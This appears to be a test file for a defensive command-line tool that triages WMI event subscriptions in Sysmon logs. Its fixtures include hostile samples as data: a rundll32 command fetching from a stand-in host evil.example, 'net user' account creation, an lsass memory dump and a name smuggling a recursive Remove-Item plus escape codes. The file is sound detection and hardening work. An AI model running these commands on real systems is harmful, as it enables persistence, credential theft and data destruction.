import { gzipSync } from 'node:zlib';
import { violations } from '../report/schemas';
import { binding, consumer, filter } from '../triage/join/recordings';
import { config, LOG_ALL, Workplace } from './program';

const lines = (...events: readonly object[]): string => events.map((event) => `${JSON.stringify(event)}\n`).join('');

const EVIL = lines(
  filter('Updater', { query: "select * from Win32_ProcessStartTrace where ProcessName = 'notepad.exe'" }),
  consumer('Updater', { at: 1, destination: 'rundll32.exe C:\\Users\\Public\\a.dll,Start http://evil.example/a' }),
  binding('Updater', 'Updater', { at: 2 }),
);
const PLAIN = lines(
  filter('AgentFilter', { host: 'WS02.corp.example' }),
  consumer('AgentConsumer', { host: 'WS02.corp.example', at: 1, destination: 'C:\\Program Files\\Agent\\agent.exe' }),
  binding('AgentFilter', 'AgentConsumer', { host: 'WS02.corp.example', at: 2 }),
);
const MANIFEST = `version: 1
exclusions:
  - id: agent
    product: Agent
    why: it scans
    filter: { name: AgentFilter, namespace: 'root\\cimv2', query: select * from X }
    consumer: { type: Command Line, name: AgentConsumer, destination: 'C:\\Program Files\\Agent\\agent.exe' }
    evidence: { verifiedBy: J. Doe, verified: 2026-01-02, ticket: SEC-1, count: 3, hosts: [WS02] }
    expires: 2026-12-31
`;

let workplace: Workplace;

beforeEach(() => {
  workplace = new Workplace({
    'evil.jsonl': EVIL,
    'plain.jsonl': PLAIN,
    'manifest.yaml': MANIFEST,
    'log-all.xml': LOG_ALL,
    'drops.xml': config('<WmiEvent onmatch="include"/>'),
  });
});

afterEach(() => {
  workplace.remove();
});

test('says first how many there are, then tells each: what, why, next', async () => {
  const { code, stdout, stderr } = await workplace.run(['triage', 'evil.jsonl']);
  expect([code, stderr]).toEqual([1, '']);
  expect(stdout).toMatch(
    /^1 subscription on 1 host: 1 likely malicious\.\n\nlikely malicious {2}id [\da-f]{12}\n {2}"Updater" on WS01\.corp\.example\n {2}what\n/,
  );
  expect(stdout).toContain('\n    trigger          fires when notepad.exe starts\n');
  expect(stdout).toContain('hxxp://evil[.]example/a');
  expect(stdout).not.toContain('http://evil');
  expect(stdout).toMatch(/\n {2}why\n {4}it runs code that does what attacks do \(.*proxy.*\)\n/);
  expect(stdout).toMatch(
    /\n {2}next\n(?:.*\n)+ {6}'__EventFilter', '__EventConsumer', '__FilterToConsumerBinding' \| ForEach-Object \{ Get-CimInstance -ComputerName WS01\.corp\.example -Namespace root\/subscription -ClassName \$_ \} \| Export-Clixml subscriptions\.xml\n/,
  );
  expect(stdout).toMatch(
    /\nRead 1 file: events 1 of 19, 1 of 20, 1 of 21\.\n3 events in 1 day: too short for a rate, which needs 28 days\.\n$/,
  );
});

test.each([
  ['malicious', 1],
  ['suspicious', 1],
  ['notable', 1],
  ['never', 0],
])('--fail-on %s with one that is likely malicious: %d', async (level, expected) => {
  expect((await workplace.run(['triage', 'evil.jsonl', '--fail-on', level])).code).toBe(expected);
});

test('what nobody verified is to be looked at, and no failure unless asked for', async () => {
  expect((await workplace.run(['triage', 'plain.jsonl'])).code).toBe(0);
  const { code, stdout } = await workplace.run(['triage', 'plain.jsonl', '--fail-on', 'notable']);
  expect(code).toBe(1);
  expect(stdout).toMatch(/^1 subscription on 1 host: 1 to look at\.\n\nlook at it/);
  expect(stdout).toMatch(/sysmon-wmi exclusions collect plain\.jsonl --subscription ([\da-f]{12}) --out \1\.yaml\n/);
});

test('what the manifest has, with all values, is known', async () => {
  const { code, stdout } = await workplace.run([
    'triage',
    'plain.jsonl',
    '--exclusions',
    'manifest.yaml',
    '--fail-on',
    'notable',
  ]);
  expect(code).toBe(0);
  expect(stdout).toMatch(/^1 subscription on 1 host: 1 known\.\n\nknown, all values agree {2}id/);
  expect(stdout.replaceAll(/\s+/g, ' ')).toContain(
    'all values agree with "agent" of the manifest, verified by J. Doe on 2026-01-02',
  );
  expect(stdout).toMatch(
    /\n {6}Get-CimInstance .* -ClassName __EventConsumer \| Where-Object Name -eq 'AgentConsumer'\n/,
  );
});

test('an entry past its last day lowers nothing', async () => {
  const args = ['triage', 'plain.jsonl', '--exclusions', 'manifest.yaml', '--today', '2027-01-01'];
  const { stdout } = await workplace.run(args);
  expect(stdout).toMatch(/^1 subscription on 1 host: 1 to look at\./);
  expect(stdout).toContain('verify it again');
});

test('--config says what is missing because it was dropped', async () => {
  workplace.write('half.jsonl', EVIL.split('\n').slice(1).join('\n'));
  const said = async (path: string): Promise<string> =>
    (await workplace.run(['triage', 'half.jsonl', '--config', path])).stdout.replaceAll(/\s+/g, ' ');
  expect(await said('drops.xml')).toContain(
    'the filter was not recorded: the configuration makes Sysmon drop its event',
  );
  expect(await said('log-all.xml')).not.toContain('the configuration makes Sysmon drop');
});

test('a configuration that Sysmon refuses decides nothing', async () => {
  workplace.write('broken.xml', '<Sysmon>');
  const { code, stdout, stderr } = await workplace.run(['triage', 'evil.jsonl', '--config', 'broken.xml']);
  expect([code, stdout]).toEqual([1, '']);
  expect(stderr).toMatch(/^broken\.xml/);
});

test.each<readonly [readonly string[], readonly string[]]>([
  [['--level', 'suspicious'], ['WS01.corp.example']],
  [
    ['--level', 'notable'],
    ['WS01.corp.example', 'WS02.corp.example'],
  ],
  [['--host', 'ws02'], ['WS02.corp.example']],
  [
    ['--host', 'WS02.CORP.example', '--host', 'ws01'],
    ['WS01.corp.example', 'WS02.corp.example'],
  ],
  [['--since', '2026-01-02'], []],
  [
    ['--until', '2026-01-01'],
    ['WS01.corp.example', 'WS02.corp.example'],
  ],
])('%j shows %j, and counts all', async (options, hosts) => {
  const { stdout, code } = await workplace.run(['triage', 'evil.jsonl', 'plain.jsonl', '--format', 'json', ...options]);
  const report = JSON.parse(stdout) as { chains: { host: string }[]; summary: { levels: object; notShown: number } };
  expect(report.chains.map(({ host }) => host)).toEqual(hosts);
  expect(report.summary).toMatchObject({ levels: { malicious: 1, notable: 1 }, notShown: 2 - hosts.length });
  expect(code).toBe(1);
});

test('gives JSON as its schema describes it', async () => {
  const { stdout } = await workplace.run([
    'triage',
    'evil.jsonl',
    'plain.jsonl',
    '--format',
    'json',
    '--exclusions',
    'manifest.yaml',
  ]);
  const report = JSON.parse(stdout) as unknown;
  expect(violations('triage-report.schema.json', report)).toEqual([]);
  expect(report).toMatchObject({
    version: 1,
    chains: [
      {
        level: 'malicious',
        standing: 'new',
        filter: { name: 'Updater', trigger: { kind: 'process', sentence: 'fires when notepad.exe starts' } },
        consumer: { type: 'Command Line', wmiClass: 'CommandLineEventConsumer' },
        user: 'CORP\\adm',
        missing: [],
      },
      { level: 'known', standing: 'verified', standingEntry: 'agent' },
    ],
  });
});

test('no event is no all-clear', async () => {
  workplace.write('other.jsonl', '{"EventID":1,"Image":"C:\\\\a.exe"}\n');
  const { code, stdout } = await workplace.run(['triage', 'other.jsonl']);
  expect(code).toBe(0);
  expect(stdout.replaceAll(/\s+/g, ' ')).toContain(
    'These files hold no WMI event of a subscription. That says nothing about subscriptions that were made before, or elsewhere.',
  );
});

test('what cannot be read is said in the first sentence, and fails whatever was found', async () => {
  workplace.write('cut.jsonl', `${PLAIN}{"EventID":20,"Name":`);
  const { code, stdout, stderr } = await workplace.run(['triage', 'cut.jsonl', '--fail-on', 'never']);
  expect(code).toBe(1);
  expect(stdout.split('\n\n')[0]?.replaceAll('\n', ' ')).toContain('Not everything could be read: see below.');
  expect(stderr).toContain('cut.jsonl:4');
});

test('hostile names neither reach the terminal nor leave the quotes of a command', async () => {
  const name = "a'; Remove-Item C:\\ -Recurse #\u2019\u001b[31m";
  workplace.write('hostile.jsonl', lines(filter(name), consumer(name), binding(name, name)));
  const { stdout } = await workplace.run(['triage', 'hostile.jsonl']);
  expect(stdout).not.toContain('\u001b');
  expect(stdout).toMatch(/Get-CimInstance .* -ClassName __EventConsumer\n/);
  const quoted = name.slice(0, -5);
  workplace.write('hostile.jsonl', lines(filter(quoted), consumer(quoted), binding(quoted, quoted)));
  expect((await workplace.run(['triage', 'hostile.jsonl'])).stdout).toContain(
    "Where-Object Name -eq 'a''; Remove-Item C:\\ -Recurse #\u2019\u2019'\n",
  );
});

test('a payload cannot draw lines of the report', async () => {
  const destination = 'x\nknown, all values agree  id 000000000000\n  why\n';
  workplace.write('lines.jsonl', lines(consumer('C', { type: 'Script', destination })));
  const { stdout } = await workplace.run(['triage', 'lines.jsonl']);
  expect(stdout).not.toMatch(/^known/m);
  expect(stdout).toMatch(/^ +│ known, all values agree/m);
});

test('a folder is all that may be events in it', async () => {
  workplace.write('logs/a.jsonl', EVIL);
  workplace.write('logs/deep/b.jsonl', PLAIN);
  workplace.write('logs/notes.md', 'nothing');
  const { stdout } = await workplace.run(['triage', 'logs']);
  expect(stdout).toMatch(/^2 subscriptions on 2 hosts/);
  workplace.write('empty/notes.md', 'nothing');
  const { code, stderr } = await workplace.run(['triage', 'empty']);
  expect(code).toBe(2);
  expect(stderr).toContain('the folder empty has no .evtx, .xml, .json, .jsonl');
});

test('--context tells who made it', async () => {
  const made = {
    EventID: 1,
    Computer: 'WS01.corp.example',
    UtcTime: '2026-01-01 00:00:00.500',
    Image: 'C:\\Windows\\System32\\wbem\\WMIC.exe',
    CommandLine: 'wmic /namespace:\\\\root\\subscription path __EventFilter create Name="Updater"',
    User: 'CORP\\adm',
  };
  workplace.write('all.jsonl', lines(made));
  const { stdout } = await workplace.run(['triage', 'evil.jsonl', '--context', 'all.jsonl']);
  expect(stdout).toMatch(/^ {4}made with {8}proof: /m);
  expect((await workplace.run(['triage', 'evil.jsonl'])).stdout).not.toContain('made with');
});

test.each(['10', '5 m', '-1m', 'soon'])('--before %s is no length of time', async (value) => {
  const { code, stderr } = await workplace.run(['triage', 'evil.jsonl', `--before=${value}`]);
  expect(code).toBe(2);
  expect(stderr).toContain(`--before: ${value} is not a duration; write it as 90s, 10m, 2h or 1d`);
});

test('an inventory shows what is there, and says so', async () => {
  const listed = {
    ConsumerDetails: { Name: 'C', CommandLineTemplate: 'C:\\Tools\\a.exe', __CLASS: 'CommandLineEventConsumer' },
    FilterDetails: { Name: 'F', Query: 'select * from __TimerEvent', EventNamespace: 'root\\cimv2' },
    Namespace: 'root/subscription',
  };
  workplace.write('inventory.json', JSON.stringify([listed]));
  const { stdout } = await workplace.run(['triage', 'inventory.json']);
  expect(stdout).toContain('    events           inventory, inventory.json:1\n');
  const report = JSON.parse((await workplace.run(['triage', 'inventory.json', '--format', 'json'])).stdout) as object;
  expect(report).toMatchObject({ chains: [{ events: [{ eventId: null, record: null }], first: null }] });
  expect(violations('triage-report.schema.json', report)).toEqual([]);
});

test('a payload that was swapped back counts for what it was', async () => {
  const hostile = 'net user helper P@ssw0rd1 /add';
  workplace.write(
    'back.jsonl',
    lines(
      filter('F'),
      consumer('C', { at: 1 }),
      binding('F', 'C', { at: 2 }),
      consumer('C', { at: 60, operation: 'Modified', destination: hostile }),
      consumer('C', { at: 120, operation: 'Modified' }),
    ),
  );
  const { stdout } = await workplace.run(['triage', 'back.jsonl']);
  expect(stdout).toMatch(/^1 subscription on 1 host: 1 likely malicious\./);
  expect(stdout).toContain('before it was changed it ran code that does what attacks do (account)');
  expect(stdout).toMatch(
    /\n {4}ran before {7}2026-01-01T00:01:00\.000Z \(account\):\n {21}│ net user helper P@ssw0rd1 \/add\n/,
  );
  const { stdout: json } = await workplace.run(['triage', 'back.jsonl', '--format', 'json']);
  expect(violations('triage-report.schema.json', JSON.parse(json))).toEqual([]);
  expect(JSON.parse(json)).toMatchObject({ chains: [{ earlier: [{ destination: hostile }] }] });
});

test('a file that cannot be read at all does not keep the others from being judged', async () => {
  workplace.write('cut.jsonl.gz', gzipSync(EVIL).subarray(0, 60));
  const { code, stdout, stderr } = await workplace.run(['triage', 'cut.jsonl.gz', 'evil.jsonl']);
  expect(code).toBe(2);
  expect(stdout).toMatch(/^1 subscription on 1 host: 1 likely malicious\. Not everything could be read/);
  expect(stderr).toContain('cut.jsonl.gz is a damaged gzip file');
});

test('context that cannot be read is said in the first sentence, and the events are judged all the same', async () => {
  workplace.write('cut.jsonl.gz', gzipSync('{"EventID":1,"Image":"C:\\\\a.exe"}\n'.repeat(9)).subarray(0, 40));
  const { code, stdout, stderr } = await workplace.run(['triage', 'evil.jsonl', '--context', 'cut.jsonl.gz']);
  expect(code).toBe(2);
  expect(stdout).toMatch(/^1 subscription on 1 host: 1 likely malicious\. Not everything could be read/);
  expect(stdout).toContain('cut.jsonl.gz: not all of this context could be read.');
  expect(stderr).toContain('cut.jsonl.gz is a damaged gzip file');
  workplace.write('part.jsonl', '{"EventID":1,"Image":"C:\\\\a.exe"}\n{"EventID":1,"Ima');
  const args = ['triage', 'plain.jsonl', '--context', 'part.jsonl', '--format', 'json'];
  const read = await workplace.run(args);
  expect(read.code).toBe(1);
  expect(violations('triage-report.schema.json', JSON.parse(read.stdout))).toEqual([]);
  expect(JSON.parse(read.stdout)).toMatchObject({ summary: { context: { events: 1, unread: ['part.jsonl'] } } });
});

test('a host that is not there is said, and days the wrong way round are refused', async () => {
  const { stderr } = await workplace.run(['triage', 'evil.jsonl', '--host', 'ws99']);
  expect(stderr).toBe('note: these files have no subscription of host ws99\n');
  const swapped = await workplace.run(['triage', 'evil.jsonl', '--since', '2026-02-01', '--until', '2026-01-01']);
  expect([swapped.code, swapped.stderr]).toEqual([
    2,
    expect.stringContaining('--since 2026-02-01 is later than --until 2026-01-01'),
  ]);
});

test('context that tells nothing is said, so that silence is not taken for "did not run"', async () => {
  workplace.write('other.jsonl', lines({ EventID: 1, Computer: 'WS09', Image: 'C:\\a.exe', CommandLine: 'a.exe' }));
  const { stdout } = await workplace.run(['triage', 'evil.jsonl', '--context', 'other.jsonl']);
  expect(stdout.replaceAll(/\s+/g, ' ')).toContain(
    'none of the 1 other event shows it; that does not show that it did not run',
  );
  expect(stdout).toContain('Context: 1 other event of processes, connections, files and logons.');
});

test('every subscription of an inventory is told, and none of them counts as an event', async () => {
  const listed = (name: string, command: string): object => ({
    ConsumerDetails: { Name: name, CommandLineTemplate: command, __CLASS: 'CommandLineEventConsumer' },
    FilterDetails: { Name: name, Query: 'select * from __TimerEvent', EventNamespace: 'root\\cimv2' },
    Namespace: 'root/subscription',
  });
  const rows = [
    listed('A', 'C:\\Tools\\a.exe'),
    listed('B', 'procdump -ma lsass.exe'),
    listed('C', 'C:\\Tools\\c.exe'),
  ];
  workplace.write('inventory.json', JSON.stringify(rows));
  const { stdout } = await workplace.run(['triage', 'inventory.json', '--format', 'json']);
  const { chains, summary } = JSON.parse(stdout) as { chains: { names: object }[]; summary: object };
  expect(chains.map(({ names }) => names)).toEqual(['B', 'A', 'C'].map((name) => ({ filter: name, consumer: name })));
  expect(summary).toMatchObject({ volume: { events: 0, days: null }, files: [{ inventory: 3 }] });
});

test('--context takes standard input, and not where the events come from there too', async () => {
  const other = lines({ EventID: 4624, Channel: 'Security', Computer: 'WS01.corp.example', LogonType: '3' });
  const read = await workplace.run(['triage', 'evil.jsonl', '--context', '-', '--format', 'json'], { input: other });
  expect(JSON.parse(read.stdout)).toMatchObject({ summary: { context: { events: 1, unread: [] } } });
  const twice = await workplace.run(['triage', '-', '--context', '-'], { input: EVIL });
  expect([twice.code, twice.stderr]).toEqual([2, expect.stringContaining('standard input can be read only once')]);
});

test('--out says on standard error what was written, with the answer', async () => {
  const { code, stdout, stderr } = await workplace.run(['triage', 'evil.jsonl', '--format', 'html', '--out', 'a.html']);
  expect([code, stdout]).toEqual([1, '']);
  expect(stderr).toBe('wrote a.html: 1 subscription on 1 host: 1 likely malicious.\n');
});
